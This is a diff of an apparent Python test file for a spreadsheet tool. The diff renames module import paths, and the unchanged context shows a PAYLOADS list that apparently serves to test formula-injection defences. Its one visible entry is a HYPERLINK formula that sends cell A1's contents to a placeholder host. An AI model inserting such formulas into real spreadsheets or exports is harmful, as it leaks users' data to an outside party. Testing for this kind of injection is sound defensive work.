@@ -12,9 +12,9 @@ from lxml import etree
 from builders import JELBUK_SETTINGS, filled
 from sakip_xl.cli import main
 from sakip_xl.engine import compute, tool_sheet_names
-from sakip_xl.package.cells import sheet_part
-from sakip_xl.package.opc import Package
-from sakip_xl.reviu import sheet_cells
+from sakip_xl.xlsx.cells import sheet_part
+from sakip_xl.xlsx.opc import Package
+from sakip_xl.check.reviu import sheet_cells
 
 PAYLOADS = [
     '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")',
